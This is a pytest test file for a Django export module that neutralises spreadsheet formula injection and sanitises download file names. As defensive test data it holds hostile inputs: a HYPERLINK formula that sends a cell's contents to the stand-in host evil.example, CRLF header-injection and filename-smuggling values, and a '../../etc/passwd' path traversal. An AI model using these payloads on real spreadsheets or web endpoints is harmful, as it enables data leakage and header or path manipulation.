"""The shared export writer: formula-like cells neutralised, download names sanitised."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.test import RequestFactory
from django.utils import translation

from sinasec.core.exports import (
    YES_NO,
    Column,
    attachment_response,
    content_disposition,
    csv_bytes,
    neutralise,
    safe_file_name,
    table,
    wants_codes,
    xlsx_bytes,
)
from sinasec.core.middleware import ContentSecurityPolicyMiddleware, build_policy

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def test_it_prefixes_every_formula_like_string_with_a_quote() -> None:
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]


def test_it_keeps_numbers_negative_ones_included_and_harmless_text_as_they_are() -> None:
    assert [neutralise(v) for v in (-3, -0.5, 0, 12, "Lima", "07", "a=b", None)] == [
        -3,
        -0.5,
        0,
        12,
        "Lima",
        "07",
        "a=b",
        "",
    ]


def test_it_writes_a_csv_whose_hostile_cells_are_inert() -> None:
    content = csv_bytes([["name", "count"], *([v, -1] for v in HOSTILE)], delimiter=";")
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert {r[1] for r in rows[1:]} == {"-1"}  # a number, not neutralised


def test_it_writes_an_xlsx_whose_hostile_cells_are_text_never_formulas() -> None:
    from openpyxl import load_workbook

    content = xlsx_bytes([("datos", ["name", "count"], [[v, -1] for v in HOSTILE])])
    sheet = load_workbook(io.BytesIO(content))["datos"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed; the cell is text either way.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
    assert {c.data_type for c in cells} == {"s"} and all(c.quotePrefix for c in cells)
    assert {row[1].value for row in sheet.iter_rows(min_row=2)} == {-1}
    assert sheet["A1"].font.bold and not sheet["A1"].quotePrefix


@pytest.mark.parametrize(
    ("name", "ascii_name", "utf8_name"),
    [
        ("plan_2010_nacional.xlsx", "plan_2010_nacional.xlsx", "plan_2010_nacional.xlsx"),
        (
            'datos.x";filename=evil.html',
            "datos.x_filename_evil.html",
            "datos.x_filename%3Devil.html",
        ),
        ("datos.csv\r\nX-Injected: 1", "datos.csv_X-Injected__1", "datos.csv_X-Injected_%201"),
        ("../../etc/passwd", "etc_passwd", "etc_passwd"),
        ("..\\secreto.csv", "secreto.csv", "secreto.csv"),
        (
            "Año Señal Ñuñoa.csv",
            "Ano_Senal_Nunoa.csv",
            "A%C3%B1o%20Se%C3%B1al%20%C3%91u%C3%B1oa.csv",
        ),
        ('"";\r\n', "descarga", "descarga"),
    ],
)
def test_it_sanitises_the_download_file_name(name: str, ascii_name: str, utf8_name: str) -> None:
    header = content_disposition(name)
    assert header == f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{utf8_name}"
    assert not any(c in header for c in "\r\n/\\") and header.count('"') == 2


def test_it_caps_a_long_file_name_and_keeps_its_extension() -> None:
    name = safe_file_name("x" * 400 + ".xlsx")
    assert len(name) == 150 and name.endswith(".xlsx")


def test_it_answers_a_download_with_the_sanitised_name_and_no_sniffing() -> None:
    response = attachment_response(b"a,b\r\n", "monitoreo\n.csv", "text/csv; charset=utf-8")
    assert response["Content-Disposition"].startswith('attachment; filename="monitoreo_.csv"')
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_fallback_csp_middleware_sets_the_configured_policy(settings) -> None:
    settings.SECURE_CSP = {"default-src": ["'self'"], "img-src": ["'self'", "data:"]}
    from django.http import HttpResponse

    middleware = ContentSecurityPolicyMiddleware(lambda request: HttpResponse("ok"))
    response = middleware(RequestFactory().get("/"))
    assert response["Content-Security-Policy"] == "default-src 'self'; img-src 'self' data:"
    assert build_policy({"object-src": ["'none'"]}) == "object-src 'none'"


def test_no_download_is_written_outside_the_shared_writer() -> None:
    """Every CSV and every attachment goes through sinasec.core.exports."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "exports.py"
        and any(
            marker in path.read_text(encoding="utf-8")
            for marker in ("csv.writer(", "Content-Disposition", "DictWriter(")
        )
    ]
    assert offenders == []


def test_it_escapes_once_more_a_text_written_as_an_escaped_formula() -> None:
    """An importer takes one "'" off an escaped cell: "'=1" typed by a user must come back."""
    from sinasec.core.exports import neutralise

    assert [neutralise(v) for v in ("'=1", "''-2", "'texto")] == ["''=1", "'''-2", "'texto"]


def test_it_writes_headers_and_coded_values_in_words_or_keeps_the_codes() -> None:
    columns = (
        Column("level", "nivel", {"district": "distrital"}),
        Column("count", "cantidad"),
        Column("demo", "demo", YES_NO),
    )
    rows = [["district", 3, False], ["other", 0, True]]
    with translation.override("es-pe"):
        assert table(columns, rows, codes=False) == (
            ["nivel", "cantidad", "demo"],
            [["distrital", 3, "no"], ["other", 0, "sí"]],  # a code without a word stays
        )
    assert table(columns, rows, codes=True) == (["level", "count", "demo"], rows)
    factory = RequestFactory()
    assert wants_codes(factory.get("/x.csv", {"columnas": "codigos"}))
    assert not wants_codes(factory.get("/x.csv"))
